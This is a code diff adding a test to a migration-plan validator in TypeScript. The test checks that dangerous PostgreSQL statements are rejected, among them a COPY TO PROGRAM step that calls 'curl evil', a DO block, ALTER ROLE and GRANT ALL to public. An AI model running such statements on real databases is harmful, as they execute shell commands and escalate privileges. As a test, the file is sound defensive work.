@@ -144,6 +144,24 @@ describe('validatePlan', () => {
     expect(problems).toEqual([{ path: 'migrationSteps[0].sql', message: expect.stringContaining('does not parse as PostgreSQL') }]);
   });
 
+  it('holds migration steps and their inverses to data and schema statements', async () => {
+    const step = (sql: string, down: string | null = null) => ({ position: 'after' as const, sql, reason, locks: 'none', down });
+    const problems = await problemsOf('x', [tagsColumn], {
+      migrationSteps: [
+        step("SET lock_timeout = '5s'; UPDATE posts SET tags = '{}' WHERE tags IS NULL;", 'CREATE INDEX posts_title_idx ON posts (title);'),
+        step("COPY posts TO PROGRAM 'curl evil'"),
+        step('UPDATE posts SET title = title;', "DO $$ BEGIN PERFORM pg_sleep(1); END $$;"),
+        step('ALTER ROLE postgres NOSUPERUSER; GRANT ALL ON posts TO public;'),
+      ],
+    });
+    expect(problems).toEqual([
+      { path: 'migrationSteps[1].sql', message: expect.stringContaining('(CopyStmt)') },
+      { path: 'migrationSteps[2].down', message: expect.stringContaining('(DoStmt)') },
+      { path: 'migrationSteps[3].sql', message: expect.stringContaining('(AlterRoleStmt)') },
+      { path: 'migrationSteps[3].sql', message: expect.stringContaining('(GrantStmt)') },
+    ]);
+  });
+
   it('requires a step\'s inverse to parse as PostgreSQL too', async () => {
     const step = { position: 'after' as const, sql: 'UPDATE posts SET title = upper(title);', reason, locks: 'row locks', down: 'UPDATE posts SET' };
     const problems = await problemsOf('x', [tagsColumn], { migrationSteps: [step] });
